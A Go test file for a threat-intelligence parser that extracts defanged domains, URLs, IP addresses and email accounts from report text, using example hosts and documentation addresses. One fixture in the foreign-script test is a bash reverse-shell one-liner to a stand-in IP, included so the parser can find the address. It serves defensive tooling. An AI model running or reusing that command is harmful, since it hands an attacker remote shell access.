package text_test

import (
	"strings"
	"testing"
)

func TestDotsWithSpacesAroundThemAreOfANameWhereThatMakesSense(t *testing.T) {
	evil := one("domain/evil.example")
	expect(t, map[string][]string{
		"evil[.] example": evil, "evil [.]example": evil, "evil [ . ] example": evil, "evil[ .]example": evil, "EVIL [.] EXAMPLE": evil,
		"www [.] evil [.] example": one("domain/www.evil.example"), "evil[.] co [.]example": one("domain/evil.co.example"),
		"198 [.] 51 [.] 100 [.] 7": one("server/198.51.100.7"), "a. evil[.]example[.] In the end": {"domain/evil.example"},
		"evil [.] co [.] in": one("domain/evil.co.in"), "| evil [.] in | C2": one("domain/evil.in"), "os.example.com and sys.example.org": {"domain/os.example.com", "domain/sys.example.org"},
		"we write dots as [.] in reports": nothing, "we put [.] to be safe": nothing, "written with [.] in it": nothing, "evil[.] In the end": nothing,
		"evil [.] exe": nothing, "evil [.] not": nothing, "use [.]": nothing, "[.] [.] [.]": nothing, "a [.] 198": nothing,
	})
}

func TestASpelledOutNameStandsAlone(t *testing.T) {
	evil, mail := one("domain/evil.example"), one("account/email:a@evil.example")
	expect(t, map[string][]string{
		"evil dot example": evil, "- evil dot example": evil, "| evil dot example | C2 |": evil, "C2: evil dot example": evil, "7) \"evil dot example\",": evil,
		"evil dot example/a": evil, "evil Dot example": evil, "domain evil dot example.": evil,
		"evil dot example, b dot example and c dot example": {"domain/evil.example", "domain/b.example", "domain/c.example"},
		"it calls www dot evil dot example then":            one("domain/www.evil.example"),
		"a at evil dot example":                             mail, "mail: a at evil dot example": mail,
		"|`+evil dot example+` |": evil, "it is 198 dot 51 dot 100 dot 7 now": one("server/198.51.100.7"), "a@evil dot example": mail, "http://evil dot example/a": one("url/http://evil.example/a"),
		"the dot com bubble": nothing, "the big dot com": nothing, "dot": nothing, "a dot example": nothing, "connect dot to dot": nothing, "dot dot dot": nothing,
		"it is the evil dot example that": nothing, "look at evil dot matrix": nothing, " dot example": nothing, "evil dot ": nothing, "evil dot exe": nothing,
		"the site dot com": nothing, "domain dot com": nothing,
	})
}

func TestSchemesAreMendedWhereNothingElseIsMeant(t *testing.T) {
	url, secure := one("url/http://evil.example/a"), one("url/https://evil.example/a")
	for _, s := range []string{
		"hxxp:// evil[.]example/a", "hxxp ://evil[.]example/a", "hxxp:/evil[.]example/a", "hxxp//evil[.]example/a", "hxxp//:evil.example/a", "hxxp__evil.example/a",
		`hxxp:\\evil[.]example\a`, `hxxp[:]\\evil[.]example/a`, "ttp://evil.example/a", "hxp://evil.example/a", "xxxp://evil.example/a", "h__p://evil.example/a",
		"htp://evil.example/a", "http ://evil.example/a", "hXXp://evil%2Eexample/a", "http：／／evil．example／a", "http://evil.example/a", "HXXP : //evil.example/a",
		`hxxp:\evil.example\a`, `hxxp:\\\\evil.example\\a`, "hxxp:///evil.example/a", `http\://evil.example/a`, "[hxxp]://evil.example/a", "hxxp[colon][slash][slash]evil[dot]example[slash]a",
		"http://[evil.example]/a", "http://[evil[.]example]/a", "hxxp:evil.example/a", `http:\\/\\/evil.example\\/a`,
	} {
		expect(t, map[string][]string{s: url, "(" + s + ")": url})
	}
	for _, s := range []string{"hxxps//evil.example/a", "ttps://evil.example/a", "hxxps:// evil.example/a", "h**ps://evil.example/a"} {
		expect(t, map[string][]string{s: secure})
	}
	expect(t, map[string][]string{
		"the schemes hxxp:// or hxxps://. evil.example": one("domain/evil.example"),
		"http/1.1 and http/2":                           nothing,
		"http:/evil.example/a":                          url,
		"http://a.example/?u=b%2Eexample":               one("url/http://a.example/?u=b%2Eexample"),
		"evil%2Eexample":                                one("domain/evil.example"),
	})
}

func TestSignsOfOtherScriptsAndOtherWordsForThem(t *testing.T) {
	evil, mail := one("domain/evil.example"), one("account/email:a@evil.example")
	for _, s := range []string{"evil[punto]example", "evil(Punkt)example", "evil[точка]example", "evil[点]example", "evil【.】example", "evil（.）example", "evil[period]example", "evil[,]example"} {
		expect(t, map[string][]string{s: evil})
	}
	for _, s := range []string{"a＠evil.example", "a[arroba]evil[punto]example", "a[собака]evil.example", "a(ät)evil(punkt)example", "a[@] evil.example"} {
		expect(t, map[string][]string{s: mail})
	}
	expect(t, map[string][]string{
		"198。51。100。7":                      one("server/198.51.100.7"),
		`1\.2\.3\.4 and a\.b\.example`:      {"server/1.2.3.4", "domain/a.b.example"},
		"(198[.51[.100[.7) [evil(.example]": {"server/198.51.100.7", "domain/evil.example"},
		"_evil [.] example_":                evil, "(tcp)://198.51.100.7:443": one("server/198.51.100.7 ports=443"), "http://evil．example/a．php": one("url/http://evil.example/a.php"),
		"198[.51[.100[.7":                           one("server/198.51.100.7"),
		"evil[-]one[.]example":                      one("domain/evil-one.example"),
		"地址为198.51.100.7：8080端口":                    one("server/198.51.100.7 ports=8080"),
		"IP：198.51.100.7。URL：无":                     one("server/198.51.100.7"),
		"先はevil[.]exampleから198.51.100.7とb.exampleに": {"domain/evil.example", "server/198.51.100.7", "domain/b.example"}, "www.laden例.example": one("domain/www.xn--laden-9d3h.example"),
		"bash -i >& /dev/tcp/198.51.100.7/443 0>&1": one("server/198.51.100.7"),
		"連絡先はevil.example。次の":                       evil,
		"ev\u200dil.exa\u2062mple":                  evil,
		"evil.\u00a0example":                        nothing,
		"\u202eevil.example\u202c":                  evil,
		"2001[:]db8[::]1":                           one("server/2001:db8::1"),
		"evil.[example]":                            evil,
		"evil.[text](x)":                            nothing,
	})
}

func TestANameThatIsCutIsNotRead(t *testing.T) {
	expect(t, map[string][]string{
		"at evil[.]exam-\nple and b.example":      one("domain/b.example"),
		"at evil-\none[.]example and b.example":   one("domain/b.example"),
		"a-\nb@evil.example":                      nothing,
		"----\nevil.example":                      one("domain/evil.example"),
		"domains -\nevil.example":                 one("domain/evil.example"),
		"a-\n\nevil.example":                      one("domain/evil.example"),
		"evil[.]example-based":                    one("domain/evil.example"),
		"evil[.]example.The next":                 one("domain/evil.example"),
		"evil[.]example.the next":                 one("domain/evil.example"),
		"%s[.]evil[.]example and %2Fevil.example": nothing,
		"198.51.100[.]x and 198.51.100.xxx":       nothing,
		"evil[.]tld":                              nothing,
	})
}

func TestFieldsOfLogsAndMembersOfObjectsAreNoDomains(t *testing.T) {
	for _, s := range []string{
		"user.name", "event.id", "dns.question.name", "row.to", "e.target.id", "fs.read", "main.run", "node_file.cc", "taken_down.total", "x.style.top", "campaign.id",
	} {
		expect(t, map[string][]string{"the field " + s + " says": nothing, "if `" + s + "` is": nothing, s + ": 'x'": nothing, strings.Replace(s, ".", "[.]", 1): one("domain/" + s)})
	}
	expect(t, map[string][]string{
		"177.100.51.198.in-addr.arpa": nothing, "/tmp/.evil.name": nothing, "so on etc.in short, so.in fact, i.e.it": nothing, "at evil.co.in now": one("domain/evil.co.in"),
		"TROJ_EVIL.SM BKDR_EVIL.IN Trojan-Ransom.Win32.Evil.in": nothing,
		"| user.name | C2 server |":                             one("domain/user.name"), "| evil.app | phishing page |": one("domain/evil.app"), "| evil.app | stage two |": one("file name"),
		"the domain user.name":                              one("domain/user.name"),
		"user.name, host.id":                                {"domain/user.name", "domain/host.id"},
		`\\evil.example\share\a`:                            one("domain/evil.example"),
		`evil.example\\` + "\n" + `b.example\`:              {"domain/evil.example", "domain/b.example"},
		`\\evil.example@80\a \\@b \\@ \\198.51.100.7@SSL\a`: {"domain/evil.example", "server/198.51.100.7"},
		"evil{zwsp}.example":                                one("domain/evil.example"),
		"=evil.example= @b.example@":                        {"domain/evil.example", "domain/b.example"},
		"evil[.]example/b[.]example c[.]example/a.b":        {"domain/evil.example", "domain/b.example", "domain/c.example"},
	})
}

func TestNamesOfCompaniesAreNoDomains(t *testing.T) {
	expect(t, map[string][]string{
		"|Evil.example, Inc. |evil.example LLC |EVIL.example GmbH|": nothing,
		"| 198.51.100.7 | Evil.example | C2 server |":               one("server/198.51.100.7"),
		"they use Evil.example accounts":                            nothing,
		"Evil.example":                                              one("domain/evil.example"),
		"Evil[.]example, Inc.":                                      one("domain/evil.example"),
		"- Evil.example - since May":                                one("domain/evil.example"), "at Www.Evil.Example too": one("domain/www.evil.example"),
		"the domain Evil.example fell": one("domain/evil.example"),
		"they use EVIL.EXAMPLE now":    one("domain/evil.example"),
	})
}

func TestSmallNumbersAfterAProductAreAVersion(t *testing.T) {
	version, address := one("version"), one("server/9.1.2.3")
	expect(t, map[string][]string{
		"in FooGate 9.1.2.3 and": version, "9.1.2.3 and earlier": version, "see §9.1.2.3": version, "see Sec. 9.1.2.3": version, "#### 9.1.2.3 Network": version,
		"版本号为9.1.2.3": version, "Versionen 9.1.2.3 bis 9.1.2.4": {"version", "version"},
		"Server 9.1.2.3": address, "At 9.1.2.3": address, "calls 9.1.2.3": address, "FooGate 9.1.2[.]3": address, "FooGate 9.1.2.3:80": one("server/9.1.2.3 ports=80"),
		"#### 9.1.2.3": address, "FooGate  9.1.2.3": address,
		"FooGate 198.51.100.7": one("server/198.51.100.7"), "#### 198.51.100.7 Network": one("server/198.51.100.7"),
	})
}
